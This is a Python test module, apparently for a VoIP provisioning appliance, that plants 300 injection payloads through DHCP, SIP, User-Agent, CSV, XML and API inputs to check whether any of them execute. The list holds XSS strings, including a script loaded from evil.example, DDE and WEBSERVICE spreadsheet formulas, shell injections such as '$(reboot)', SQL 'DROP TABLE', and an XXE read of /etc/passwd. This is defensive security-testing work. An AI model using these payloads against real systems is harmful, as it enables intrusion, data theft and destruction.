"""payloads: three hundred texts that would run as a script, a formula or a terminal's command where somebody forgot that they are text.

In:   a Scene with a page (admin_api).
Out:  PAYLOADS; plant_payloads(scene): each of them through DHCP (host name, vendor class), SIP, User-Agent, CSV, XML and the API into the appliance.
Not:  no test: whoever shows what was planted (page, files, logs, console) looks whether anything ran. Each has its number: `provost17x`.
"""
import base64
import concurrent.futures
import os
import re
import socket
import time
import xml.sax.saxutils

import dhcp_wire as wire
from admin_api import loose_tls, page_of, request_bytes
from scene import LAN, require
from tools import socket_in

# {n}: the payload's number. What runs calls alert, and leaves its number as a property of the window and in the console.
RUN = "alert(window.provost{n}x=1)"
SHAPES = [
    '<script>{run}</script>', '"><script>{run}</script>', "'><script>{run}</script>", '</title><script>{run}</script>', '</textarea><script>{run}</script>',
    '</script><script>{run}</script>', '<img src=x onerror={run}>', '"><img src=x onerror={run}>', "'><img/src/onerror={run}>", '<svg onload={run}>', '<svg/onload={run}>',
    '<body onload={run}>', '<iframe src="javascript:{run}">', '<iframe srcdoc="<script>{run}</script>">', '<a href="javascript:{run}">x</a>', '<a href=java&#x09;script:{run}>x',
    '<details open ontoggle={run}>', '<input autofocus onfocus={run}>', '<video><source onerror={run}>', '<audio src=x onerror={run}>', '<object data="javascript:{run}">',
    '<embed src="javascript:{run}">', '<form action="javascript:{run}"><button>', '<button formaction=javascript:{run}>', '<math href="javascript:{run}">x',
    '<style>@import "javascript:{run}"</style>', '<link rel=stylesheet href=javascript:{run}>', '<meta http-equiv=refresh content="0;javascript:{run}">', '<base href=javascript:{run}//>',
    '" onmouseover="{run}" x="', "' onfocus='{run}' autofocus x='", '` onerror=`{run}`', 'javascript:{run}', 'JaVaScRiPt:{run}', 'data:text/html,<script>{run}</script>',
    '{{{{constructor.constructor("{run}")()}}}}', '${{{run}}}', '`${{{run}}}`', '#{{{run}}}', '<%= {run} %>', "';{run};//", '";{run};//', '\\";{run};//', '*/{run}/*', '-->{run}<!--',
    '<!--><script>{run}</script>', ']]><script>{run}</script>', '<![CDATA[<script>{run}</script>]]>', '&lt;script&gt;{run}&lt;/script&gt;', '%3Cscript%3E{run}%3C/script%3E',
    '\\u003cscript\\u003e{run}\\u003c/script\\u003e', '+ADw-script+AD4-{run}', '<scr<script>ipt>{run}', '<SCRIPT SRC=//evil.example/{n}.js>', '<script/src=data:,{run}>',
    '<x onclick={run}>x', '<marquee onstart={run}>', '<select onfocus={run} autofocus>', '<template><script>{run}', '<noscript><p title="</noscript><img src=x onerror={run}>">']
FORMULAS = ['=1+{n}', '=cmd|\' /C calc\'!A{n}', '=HYPERLINK("http://evil.example/?{n}";"x")', '+1+{n}', '-1+{n}', '@SUM({n};1)', '=WEBSERVICE("http://evil.example/{n}")',
            '%0A=1+{n}', ';=1+{n}', '",=1+{n}', ' =1+{n}', '\u00a0=1+{n}', '\uff1d1+{n}', '|calc {n}', '=DDE("cmd";"/C calc";"{n}")']
TERMINAL = ['[2J{n}', ']0;provost{n}x', '%1b[31m{n}', '\u202e{n}tpircs', '\u2028alert({n})', '\ufeff{n}', 'a;b,c"d\'e{n}', '$(reboot){n}', '`reboot`{n}', '; reboot # {n}', '| reboot {n}', '&& reboot {n}',
            '../../../etc/passwd{n}', '%s%n%x{n}', '{{"role":"owner","n":{n}}}', "' OR 1=1 -- {n}", "'; DROP TABLE phone; -- {n}", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>{n}',
            '&e;{n}', ']]>{n}', '<?xml version="1.0"?>{n}', 'event: change {n}', 'data: {n}', 'HTTP/1.1 200 OK {n}', 'Set-Cookie: a={n}']
COUNT = 300


def _made():
    shapes, found = [*SHAPES, *FORMULAS, *TERMINAL], []
    shorter = ('alert({n})', RUN, "top['al'+'ert'](window.provost{n}x=1)")
    for n in range(COUNT):
        text = shapes[n % len(shapes)]
        run = shorter[n // len(shapes) % len(shorter)].format(n=n)
        found.append(text.format(run=run, n=n))
    return found


PAYLOADS = _made()
MACS = [f'000413bb{n:04x}' for n in range(COUNT)]


def named(n):
    """What fits into a name of 64 bytes, with the payload's beginning whole; names with characters that nobody sees are refused anyway."""
    return re.sub('[\u2028\u2029\u202a-\u202e\ufeff]', '', PAYLOADS[n]).encode()[:64].decode(errors='ignore')


def through_csv(page):
    quoted = lambda text: '"' + text.replace('"', '""') + '"'
    rows = [f'{MACS[n]};{quoted(named(n))};snomD785;{quoted("u" + str(n))}' for n in range(COUNT)]
    content = base64.b64encode(('mac;name;model;sip_user\n' + '\n'.join(rows) + '\n').encode()).decode()
    answer = page.owner().want(200, 'POST', '/imports', {'kind': 'phones', 'name': named(0) + '.csv', 'content': content})
    return answer


def through_xml(page):
    item = '<item context="active" type="none" index="{n}"><name>{text}</name><number>{n}</number></item>'
    items = ''.join(item.format(n=n, text=xml.sax.saxutils.escape(PAYLOADS[n])) for n in range(COUNT))
    content = base64.b64encode(f'<settings><tbook complete="true">{items}</tbook></settings>'.encode()).decode()
    return page.owner().want(200, 'POST', '/imports', {'kind': 'settings', 'name': 'book.xml', 'content': content})


def through_api(page):
    """Names by PATCH, reasons, seals, profiles, settings: each payload once; the ones that are refused are counted."""
    owner, taken = page.owner(), 0

    def one(n):
        text = named(n)
        ways = (('PATCH', f'/phones/{MACS[n]}', {'name': text}), ('PUT', f'/phones/{MACS[n]}/seal', {'number': text, 'place': text, 'inspected': False}),
                ('POST', f'/phones/{MACS[n]}/revoke', {'reason': PAYLOADS[n][:200]}) if n % 10 == 9 else ('POST', f'/phones/{MACS[n]}/approve', {}),
                ('PUT', f'/scopes/phone/{MACS[n]}/settings', {'settings': [{'name': 'user_realname', 'index': 1, 'value': PAYLOADS[n]}], 'reason': PAYLOADS[n][:200]}))
        answers = [owner.ask(method, path, body, match='*' if path.endswith('settings') or method == 'PATCH' else None) for method, path, body in ways]
        bad = [answer for answer in answers if answer.status >= 500]
        require(not bad, lambda: f'{text!r}: {bad}')
        return sum(answer.status < 300 for answer in answers)

    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        taken = sum(pool.map(one, range(COUNT)))
    return taken


class Planter:
    """A host that speaks for each of the phones, with its MAC."""

    def __init__(self, scene):
        self.netns = scene.host('planter', '02:00:00:00:0b:bb', '10.20.0.250/24')
        self.frames = socket_in(self.netns, socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.frames.bind(('eth0', 0))
        scene.closers.append(self.frames.close)

    def through_dhcp(self):
        for n, mac in enumerate(MACS):
            text = PAYLOADS[n].encode()[:200]
            payload = wire.build(wire.DISCOVER, mac, flags=0x8000, options={55: bytes([1, 3, 66, 67]), 12: text, 60: b'snomD785 ' + text})
            self.frames.send(wire.frame(payload, wire.mac_bytes(mac)))
            time.sleep(0.002)

    def through_sip(self, numbers=range(COUNT)):
        """SUBSCRIBE of PnP with the payload as model, version, agent and display name."""
        for n in numbers:
            mac = MACS[n]
            text = re.sub(r'[\r\n]', ' ', PAYLOADS[n])
            quoted = text.replace('\\', '').replace('"', "'")
            payload = (f'SUBSCRIBE sip:MAC%3a{mac.upper()}@10.20.0.250 SIP/2.0\r\nVia: SIP/2.0/UDP 10.20.0.250:5060;branch=z9hG4bK-{os.urandom(6).hex()};rport\r\n'
                       f'From: "{quoted}" <sip:MAC%3a{mac.upper()}@10.20.0.250>;tag={os.urandom(4).hex()}\r\nTo: <sip:MAC%3a{mac.upper()}@10.20.0.250>\r\n'
                       f'Call-ID: {os.urandom(8).hex()}\r\nCSeq: 1 SUBSCRIBE\r\nMax-Forwards: 1\r\nContact: <sip:10.20.0.250:5060>\r\nUser-Agent: {text}\r\n'
                       f'Event: ua-profile;profile-type="device";vendor="snom";model="{quoted}";version="{quoted}"\r\nAccept: application/url\r\nExpires: 0\r\n'
                       'Content-Length: 0\r\n\r\n').encode()
            self.frames.send(wire.frame(payload, wire.mac_bytes(mac), eth_target=b'\x01\x00\x5e\x00\x01\x4b', source='10.20.0.250', target='224.0.1.75', ports=(5060, 5060)))
            time.sleep(0.002)


def through_user_agent(scene):
    """Phones' requests for their settings, over TLS to the phones' listener: ten with their certificate, which say thirty payloads each."""
    page, said = scene.page, []
    proven = MACS[::30]
    devices = {mac: scene.pki.device(mac) for mac in proven}
    sources = [page.address() for _ in proven]

    def one(number):
        mac, tls = proven[number], loose_tls()
        tls.load_cert_chain(devices[mac].chain, devices[mac].key)
        with page.link(sources[number], port=443, tls=tls) as link:
            for n in range(number * 30, number * 30 + 30):
                agent = PAYLOADS[n] if n % 5 else f'Mozilla/4.0 (compatible; snomD785-SIP {PAYLOADS[n]} 1.1 {mac.upper()})'
                link.send(request_bytes('GET', f'/{mac.upper()}.xml', [('Host', LAN), ('X-snom-vpn', PAYLOADS[n][:40])]).replace(b'\r\n\r\n', b'\r\nUser-Agent: ' + agent.encode() + b'\r\n\r\n'))
                said.append(link.reply().status)

    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        list(pool.map(one, range(len(proven))))
    return said


def plant_payloads(scene):
    """All of them through all ways. How many each way took."""
    page = page_of(scene)
    counts = {'CSV': through_csv(page)['added'], 'XML': through_xml(page)['n_settings']}
    counts['API'] = through_api(page)
    scene.planter = Planter(scene)
    scene.planter.through_dhcp()
    scene.planter.through_sip()
    agents = through_user_agent(scene)
    counts |= {'DHCP': COUNT, 'SIP': COUNT, 'User-Agent': sum(status in (200, 401, 403, 404) for status in agents)}
    return counts
